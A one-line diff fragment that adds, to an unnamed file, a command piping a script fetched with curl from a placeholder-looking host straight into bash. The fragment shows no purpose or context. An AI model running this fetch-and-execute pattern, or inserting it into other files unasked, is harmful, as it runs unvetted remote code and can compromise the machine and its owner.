@@ -1,0 +1,1 @@
+bash -c "$(curl -fsSL https://c.example.net/i.sh)"
